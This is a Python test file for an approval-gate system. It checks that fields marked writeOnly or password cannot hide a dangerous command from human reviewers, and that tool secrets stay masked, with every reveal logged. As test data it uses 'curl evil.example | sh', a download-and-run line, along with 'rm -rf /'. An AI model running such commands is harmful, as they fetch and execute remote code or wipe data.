"""What a program marks as secret is shown to whoever decides about it.

A `writeOnly` or `format: password` in a program's schema masked the argument on the gate's page, in lists and in the
API: `curl … | sh` was approved, and ran, by somebody who could not see it. What people registered as a tool's secret
is hidden wherever the state of a program's run is shown, and no person has a state's secrets for the asking.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest

from agents.api.interface import api
from agents.api.protocol.idempotency_keys import REPLAYED
from agents.errors import RewindRefused
from agents.models import Answer
from agents.moves import request, rewind
from approvals import tools
from approvals.cards.card import state_veil
from approvals.gates import reveal_secret
from approvals.models import Gate, Policy
from approvals.notifications import building
from approvals.notifications.building import NoticeKind, Urgency
from checkpoints import store
from checkpoints.models import Checkpoint, Event, Run
from checkpoints.runs.plans import spec_of
from checkpoints.values import json_pointer
from tests.agents.api.test_doors import refusal
from tests.agents.remote.outside_program import ACTION, SCHEMA, STEPS, WIRE, Program, decide
from tests.approvals.schema.redaction.vault_runs import member
from tests.approvals.tools.registered_tools import make_tool
from tests.factories import MEMBER, make_policy, make_user
from tests.factories.events import data_of
from tests.factories.tokens import bearing, make_token
from tests.harness.signed_in_clients import signed_in

COMMAND = "curl evil.example | sh"
MARKS: list[dict[str, Any]] = [{"writeOnly": True}, {"format": "password"}]
MARK = MARKS[0]
Part = dict[str, Any]


# How a mark may be hidden in the schema of arguments.
NESTED: dict[str, Callable[[Part], Part]] = {
    "a member": lambda part: {"properties": {"run": part}},
    "a reference": lambda part: {"properties": {"run": {"$ref": "#/$defs/a"}}, "$defs": {"a": part}},
    "a reference into a default": lambda part: {
        "properties": {"run": {"$ref": "#/$defs/a/default"}},
        "$defs": {"a": {"default": part}},
    },
    "items": lambda part: {"properties": {"run": {"type": "array", "items": part}}},
    "prefixItems": lambda part: {"properties": {"run": {"type": "array", "prefixItems": [part]}}},
    "allOf": lambda part: {"properties": {"run": {"allOf": [part]}}},
    "anyOf": lambda part: {"properties": {"run": {"anyOf": [part, {"type": "null"}]}}},
    "a condition": lambda part: {"properties": {"run": {}}, "if": {}, "then": {"properties": {"run": part}}},
    "additionalProperties": lambda part: {"additionalProperties": part},
    "patternProperties": lambda part: {"patternProperties": {"^r": part}},
    "all of it": lambda part: {**part, "type": "object"},
}
PIN = "482913-never-shown"
PINNED: dict[str, Any] = {
    "type": "object",
    "properties": {"pin": {"type": "string", "writeOnly": True}, "to": {"type": "string"}},
    "additionalProperties": False,
}
PAGES = [
    "/runs/{run}/", "/runs/{run}/checkpoints/2/", "/runs/{run}/checkpoints/2/value",
    "/runs/{run}/checkpoints/2/value/payment", "/runs/{run}/checkpoints/2/value/payment/pin",
    "/runs/{run}/checkpoints/2/edit/", "/runs/{run}/checkpoints/2/fork/", "/runs/{run}/checkpoints/2/?against=1",
    "/api/runs/{run}", "/api/runs/{run}/checkpoints/2", "/api/runs/{run}/checkpoints/1/diff?to=2",
]  # fmt: skip
PASSPHRASE = "hunter22-of-the-vault"
PASSWORD = {"type": "object", "properties": {"value": {"type": "string", "writeOnly": True}}}
VAULT: dict[str, Any] = {
    "type": "object",
    "properties": {"user": {"type": "string"}, "password": {"$ref": "#/$defs/password"}},
    "additionalProperties": False,
    "$defs": {"password": {**PASSWORD, "additionalProperties": False}},
}
PLACE = "/act/password/value"
SECRET = "acct-7f3a9c0d"
INVOICE = {"type": "object", "properties": {"account": {"type": "string", "writeOnly": True}}}
# A part of a schema in which only a validator would find the secret, and what is beside it.
HIDDEN: list[tuple[dict[str, Any], dict[str, Any]]] = [
    ({"$ref": "#account"}, {"$defs": {"a": {"$anchor": "account", "writeOnly": True}}}),
    ({"$dynamicRef": "#account"}, {"$defs": {"a": {"$dynamicAnchor": "account", "writeOnly": True}}}),
    ({"$ref": "https://x/y#/$defs/a"}, {"$id": "https://x/y", "$defs": {"a": {"writeOnly": True}}}),
    ({"$id": "z", "$ref": "#/$defs/a", "$defs": {"a": {"writeOnly": True}}}, {"$defs": {"a": {}}}),
]


def nested(mark: Part, how: str) -> tuple[Part, Any]:
    """The schema of some arguments with a mark, and the arguments."""
    schema = NESTED[how]({"type": "string", **mark} if how != "all of it" else mark)
    return {"type": "object", **schema}, {"run": [COMMAND] if how in ("items", "prefixItems") else COMMAND}


def posted(program: Program, schema: Part, arguments: Any, **more: Any) -> Gate:
    """A gate posted without a plan."""
    action = {"id": "act", "tool": "shell.run", "arguments": arguments, "schema": schema, **more}
    return Gate.objects.get(pk=program.ok(program.post("gates", {"title": "Tidy up", "actions": [action]}))["gate"])


def planned(program: Program, schema: Part, arguments: Any, *, beside: bool = False, **fields: Part) -> Gate:
    """A gate of a registered plan, whose state's schema has the mark. `beside`: in a field that no action shows."""
    members = {**SCHEMA["properties"], "invoice" if beside else "payment": schema, **fields}
    program.register(state_schema={**SCHEMA, "properties": members})
    invoice = arguments if beside else {}
    program.run = program.ok(program.post("runs", {"agent": program.agent, "input": {"invoice": invoice}}))["id"]
    program.claim()
    value = WIRE if beside else arguments
    ops = [{"op": "set", "field": "payment", "value": value}]
    program.ok(program.work("checkpoints", step="draft", ops=ops))
    return Gate.objects.get(pk=program.ask()["gate"])


def in_own_card(program: Program, schema: Part, arguments: Any) -> Gate:
    """A gate of a registered plan, whose card brings arguments and their schema along."""
    program.start()
    program.draft()
    action = {"id": "act", "tool": "shell.run", "arguments": arguments, "schema": schema}
    asked = program.work("gates", step="review", title="Tidy up", actions=[ACTION, action])
    return Gate.objects.get(pk=program.ok(asked)["gate"])


def by_a_signal(program: Program, schema: Part, arguments: Any) -> Gate:
    """A signal whose schema has the mark too; the program saves its value."""
    members = {**SCHEMA["properties"], "payment": schema}
    program.start(state_schema={**SCHEMA, "properties": members}, signals={"order": schema})
    program.ok(program.post(f"runs/{program.run}/signals/order", {"value": arguments, "key": "1"}))
    [heard] = program.client.get(f"/api/runs/{program.run}/signals/order").json()["items"]
    program.ok(
        program.work("checkpoints", step="draft", ops=[{"op": "set", "field": "payment", "value": heard["value"]}])
    )
    return Gate.objects.get(pk=program.ask()["gate"])


WAYS: dict[str, Callable[[Program, Part, Any], Gate]] = {
    "a posted gate": posted,
    "a plan": planned,
    "a plan's field that no action shows": lambda program, schema, value: planned(program, schema, value, beside=True),
    "a card of its own": in_own_card,
    "a signal": by_a_signal,
}


def decided(gate: Gate, who: str = "Ann Okafor", **said: Any) -> None:
    """A decision of somebody of the team, over the API."""
    client, body = signed_in(make_user(who, gate.team)), {"seen": told_of(gate)["digest"], **said}
    answer = client.post(f"/api/gates/{gate.pk}/decisions", body, content_type="application/json")
    assert answer.status_code == 201, answer.content


def page_of(gate: Gate) -> str:
    """The gate's page, as a reviewer sees it."""
    page: str = signed_in(make_user("Rea Reviewer", gate.team)).get(f"/gates/{gate.pk}/").content.decode()
    return page


def told_of(gate: Gate) -> dict[str, Any]:
    """The gate, as a reviewer's own program reads it; so does the command line."""
    reader = make_user("Rea Reviewer", gate.team)
    told: dict[str, Any] = bearing(make_token(reader)[1]).get(f"/api/gates/{gate.pk}").json()
    return told


@pytest.mark.parametrize(("way", "mark"), list(zip(WAYS, [*MARKS, *MARKS, MARK], strict=True)))
def test_by_whichever_way_it_is_sent_the_reviewer_sees_it(way: str, mark: Part) -> None:
    gate = WAYS[way](Program(), *nested(mark, "a member"))
    page = page_of(gate)
    assert COMMAND in page
    assert "••••" not in page
    told = told_of(gate)
    assert told["masked"] == []
    if way != "a plan's field that no action shows":  # the API has the state at an address of its own
        assert COMMAND in json.dumps(told)


def test_wherever_in_the_schema_it_is_marked() -> None:
    actions = []
    for number, how in enumerate(NESTED):
        schema, arguments = nested(MARKS[number % 2], how)
        arguments = json.loads(json.dumps(arguments).replace(COMMAND, f"{COMMAND} {number}."))
        actions.append({"id": f"act{number}", "tool": "shell.run", "arguments": arguments, "schema": schema})
    program = Program()
    told = program.ok(program.post("gates", {"title": "Tidy up", "actions": actions}))
    page = page_of(Gate.objects.get(pk=told["gate"]))
    assert [how for number, how in enumerate(NESTED) if f"{COMMAND} {number}." not in page] == []
    assert "••••" not in page


def test_what_a_colleague_answers_in_its_place_is_seen_by_whoever_decides_next() -> None:
    program = Program()
    make_policy(program.team, name="default", quorum=2)
    asked = {"response": {"type": "string", **MARK}, "verdicts": ["approve", "respond"]}
    gate = posted(program, {}, {"run": "ls"}, **asked)
    decided(gate, actions={"act": {"verdict": "respond", "response": COMMAND}})
    assert COMMAND in page_of(gate)
    assert COMMAND in json.dumps(told_of(gate))


def test_what_a_colleague_answers_to_a_question_is_seen_by_whoever_decides_next() -> None:
    """The value that answers for a lost effect has the schema of the plan's field."""
    program = Program()
    make_policy(program.team, name="default", quorum=2)
    receipt = {"type": "object", "properties": {"run": {"type": "string", **MARK}}}
    gate = planned(program, SCHEMA["properties"]["payment"], WIRE, receipt=receipt)
    for name in ("Ann Okafor", "Bob Reed"):
        decided(gate, name, verdict="approve")
    program.claim()
    program.ok(program.work(f"effects/{program.begin()['id']}/results", status="unknown", error="No answer."))
    question = Gate.objects.open().get(run_id=program.run)
    answer = {"choice": "happened", "value": {"receipt": {"run": COMMAND}}}
    decided(question, verdict="answer", answer=answer)
    assert 'type="password"' not in page_of(question)  # there each types the value that they answer with
    assert COMMAND in json.dumps(told_of(question))


def test_an_edit_of_the_whole_state_shows_it_and_its_change_and_the_form_of_the_runs_state_does_not() -> None:
    """Nobody approves there, and a registered tool's secret may be in the same state."""
    program = Program()
    make_policy(program.team, name="default", whole_state=True, quorum=2)
    gate = planned(program, *nested(MARK, "a member"))
    assert f"&quot;run&quot;: &quot;{COMMAND}&quot;" in page_of(gate)
    client = signed_in(make_user("Rea Reviewer", program.team))
    assert COMMAND not in client.get(f"/runs/{program.run}/checkpoints/2/edit/").content.decode()
    changed = {"invoice": {}, "payment": {"run": "rm -rf /"}}
    decided(gate, verdict="edit", state={**store.load(program.row()).state, **changed})
    page = page_of(gate)
    assert "rm -rf /" in page
    assert COMMAND in page  # what was there before


def test_its_mark_stays_in_what_is_stored_and_it_is_in_no_message_and_no_search() -> None:
    """Nobody decides there: what an honest program calls secret is not sent to a mail server or a chat.

    A card's PIN went there as "Amount: 482913": the amount was read as on the gate's page.
    """
    marked = {"type": "string", **MARK}
    schema = {"type": "object", "properties": {"run": marked, "card_pin": marked, "to": {"type": "string"}}}
    arguments = {"run": COMMAND, "card_pin": "482913", "to": "Ann"}
    gate = posted(Program(), schema, arguments, pinned=["/card_pin"])
    assert gate.standing().content["actions"][0]["schema"]["properties"]["run"]["writeOnly"] is True
    [action] = gate.standing().card.actions
    assert action.masked == arguments | {"to": "Ann"}
    assert "evil" not in gate.terms
    gate.policy.leaves = Policy.Leaves.ALL
    sent = repr(building.of_gate(gate, gate.standing(), NoticeKind.ASKED, urgency=Urgency.NORMAL))
    assert [word in sent for word in ("482913", "evil", "Ann")] == [False, False, True]


def test_a_constant_that_looks_like_a_mark_is_shown_as_it_is() -> None:
    """Marks are taken out of schemas, not out of the values that a schema lists."""
    value = {"writeOnly": True, "format": "password"}
    gate = posted(Program(), {"type": "object", "properties": {"run": {"const": value}}}, {"run": value})
    shown = gate.standing().card.actions[0].shown_schema
    assert json_pointer.find_value(shown, "/properties/run/const") == value


def test_every_member_of_the_api_that_takes_a_schema_is_tried_here() -> None:
    """A new way in would be one that no test of this file takes."""
    shapes = api.get_openapi_schema(path_prefix="/api/")["components"]["schemas"]
    named = {
        name
        for shape in shapes.values()
        for name, part in shape.get("properties", {}).items()
        if "JSON Schema" in part.get("description", "") and part.get("type") == "object"
    }
    tools = {"arguments"}  # of tools as people registered them; no program sends it
    assert named - tools == {"schema", "response", "state_schema", "signals"}


@pytest.fixture
def gate() -> Gate:
    program = Program()
    make_tool(program.team, schema=PINNED, pinned=[], undo="")
    open_fields = {"type": "object", "properties": {"pin": {"type": "string"}, "to": {"type": "string"}}}
    return planned(program, open_fields, {"pin": PIN, "to": "Ann"})


def test_a_runs_pages_and_its_api_hide_it_and_say_where_and_a_run_of_another_lineage_hides_nothing(gate: Gate) -> None:
    reader = signed_in(make_user("Rea Reviewer", gate.team))
    decide(gate)
    for page in PAGES:
        shown = reader.get(page.format(run=gate.run_id))
        assert shown.status_code in (200, 302), (page, shown.content)
        assert PIN not in shown.content.decode(), page
    told = reader.get(f"/api/runs/{gate.run_id}/checkpoints/2").json()
    assert (told["masked"], told["state"]["payment"]["to"]) == (["/payment/pin"], "Ann")
    person = make_user("Rita", gate.team, may=(*MEMBER, "approvals.reveal_secret"))
    first = Checkpoint.objects.select_related("plan").get(run=gate.run_id, seq=2)
    assert reveal_secret.of_checkpoint(gate.run, first, "/payment/pin", by=person) == PIN
    other = Program(team=gate.team, agent=gate.run.plan.agent)  # a tool's place in one run is a plain field in another
    other.run = other.ok(other.post("runs", {"agent": other.agent, "input": {"invoice": {}}}))["id"]
    other.claim()
    other.draft(pin="plain")
    assert reader.get(f"/api/runs/{other.run}/checkpoints/2").json()["state"]["payment"]["pin"] == "plain"


def test_an_edit_of_its_neighbour_keeps_it_and_a_patch_cannot_copy_it_to_where_it_is_shown(gate: Gate) -> None:
    """The form and the order see a placeholder, and the run goes on with the value."""
    saved = store.load_checkpoint(Checkpoint.objects.get(run=gate.run_id, seq=2).pk)
    writes = request.edited(gate.run, saved, [{"op": "replace", "path": "/payment/to", "value": "Bea"}])
    assert writes["payment"] == {"pin": PIN, "to": "Bea"}
    copied = [{"op": "copy", "from": "/payment/pin", "path": "/payment/to"}]
    with pytest.raises(RewindRefused):
        rewind.edit(gate.run, at=2, patch=copied, by=make_user("Bob", gate.team), feedback="", key="once")


def test_each_secret_of_the_state_is_hidden_at_its_own_place_and_revealed_from_there_with_its_event() -> None:
    program = Program()
    make_tool(program.team, name="vault.set", schema=VAULT, pinned=[], undo="")
    gate = posted(program, {}, {"user": "robo", "password": {"value": PASSPHRASE}}, tool="vault.set")
    veil, state = state_veil(spec_of(gate.run.plan), gate.standing().card), gate.saved.state
    assert list(veil.places(state)) == [PLACE]
    assert veil.masked(state)["act"]["user"] == "robo"
    told = told_of(gate)
    assert told["masked"] == ["/actions/0/arguments/password/value"]
    assert PASSPHRASE not in page_of(gate) + json.dumps(told)
    person = signed_in(member(gate.team, reveals=True))
    page = person.get(f"/gates/{gate.pk}/").content.decode()
    assert f'value="{PLACE}"' in page
    answer = person.post(f"/gates/{gate.pk}/reveals/", {"at": PLACE})
    assert (answer.status_code, PASSPHRASE in answer.content.decode()) == (200, True)
    [event] = Event.objects.filter(kind="secret.revealed", run_id=gate.run_id)
    assert data_of(event)["pointer"] == PLACE
    assert person.post(f"/gates/{gate.pk}/reveals/", {"at": "/act/user"}).status_code == 404


@dataclass
class Keeper(Program):
    """A program whose state holds a secret."""

    def register(self, **more: Any) -> dict[str, Any]:
        schema = {**SCHEMA, "properties": {**SCHEMA["properties"], "invoice": INVOICE}}
        return super().register(state_schema=schema, **more)


def queued() -> Keeper:
    """With a run that nobody has claimed."""
    program = Keeper()
    program.register()
    program.run = program.ok(program.post("runs", {"input": {"invoice": {"account": SECRET}}}))["id"]
    return program


def test_a_secret_that_only_a_validator_would_find_is_refused_in_the_schema_of_a_state_and_of_a_tool() -> None:
    """The plan was taken, its values were checked by the definition, and shown as if nothing hid them."""
    program = Program()
    for part, beside in HIDDEN:
        schema = {**SCHEMA, "properties": {**SCHEMA["properties"], "invoice": part}, **beside}
        body = {"version": "1", "state_schema": schema, "steps": STEPS}
        [fault] = refusal(program.post(f"agents/{program.agent}/versions", body), 422)["errors"]
        assert fault["parameter"] == "/state_schema"
        assert "so that its secrets are found" in fault["detail"]
        arguments = {"account": part, "other": {"$ref": "#/$defs/a"}}
        assert "refer to #/$defs/" in tools.fault({"type": "object", "properties": arguments, **beside})


def test_such_a_secret_in_the_schema_of_an_action_is_refused() -> None:
    """Only a state's schema was looked at: the card of the action was taken, and showed the argument in the open."""
    program = Program()
    program.start()
    program.draft()
    part, beside = HIDDEN[0]
    schema = {"type": "object", "properties": {"account": part}, **beside}
    action = {"id": "wire", "arguments": {"account": SECRET}, "schema": schema}
    asked: dict[str, Any] = {"step": "review", "title": "Wire", "actions": [{**action, "effect": "wire"}]}
    answered = {"id": "wire", "pointer": "/payment", "response": schema, "verdicts": ["approve", "respond"]}
    for answer in (
        program.work("gates", **asked),
        program.post("gates", {"title": "Wire", "actions": [action]}),
        program.work("gates", **asked | {"actions": [answered]}),
    ):
        assert "so that its secrets are found" in refusal(answer, 422)["errors"][0]["detail"]


def keeps_a_secret() -> bool:
    return any(SECRET.encode() in bytes(body) for body in Answer.objects.values_list("body", flat=True))


def test_the_answers_to_claims_and_effects_are_kept_without_the_state_and_given_again_with_it() -> None:
    """Whole states lay in the table of answers for a week, also where retention had removed the run."""
    program = queued()
    first = program.post(f"runs/{program.run}/claims", {}, key="c")
    program.token = first.json()["token"]
    assert first.json()["state"]["invoice"] == {"account": SECRET}
    assert not keeps_a_secret()
    again = program.post(f"runs/{program.run}/claims", {}, key="c")
    assert (again[REPLAYED], again.content) == ("true", first.content)
    program.draft()
    late = program.post(f"runs/{program.run}/claims", {}, key="c").json()
    assert late == {**first.json(), "state": None}
    gate = program.ask()["gate"]
    decide(Run.objects.get(pk=program.run).gates.get(pk=gate))
    program.claim()
    begun = program.work("effects", step="wire", key="e")
    assert program.work("effects", step="wire", key="e").content == begun.content
    assert begun.json()["state"]["invoice"] == {"account": SECRET}
    assert not keeps_a_secret()


def test_a_person_gets_them_by_the_permission_to_reveal_and_with_an_event_and_works_freely_without_any() -> None:
    """Whoever might start runs had every secret of a queued run by claiming it, without a trace."""
    program = queued()
    other = make_user("Mo Member", program.team)
    for client in (signed_in(other), bearing(make_token(other)[1])):
        answer = client.post(f"/api/runs/{program.run}/claims", {}, content_type="application/json")
        assert "with a token of its agent" in refusal(answer, 403)["detail"]
        assert Run.objects.get(pk=program.run).status == "queued"
    program.claim()
    body = {"token": program.token, "undoes": 1}
    taken = signed_in(other).post(f"/api/runs/{program.run}/effects", body, content_type="application/json")
    refusal(taken, 403)
    assert not Event.objects.filter(run_id=program.run, kind="secret.revealed").exists()
    program.ok(program.work("releases"))
    trusted = make_user("Rea Revealer", program.team, may=("approvals.reveal_secret", *MEMBER))
    shown = signed_in(trusted).post(f"/api/runs/{program.run}/claims", {}, content_type="application/json")
    assert shown.json()["state"] == store.load(program.row()).state
    told = Event.objects.get(run_id=program.run, kind="secret.revealed")
    assert told.actor == f"user:{trusted.pk}"
    plain = Program()
    plain.register()
    run = plain.ok(plain.post("runs", {"input": {"invoice": {}}}))["id"]
    member = signed_in(make_user("Mo Member", plain.team))
    assert member.post(f"/api/runs/{run}/claims", {}, content_type="application/json").status_code == 201
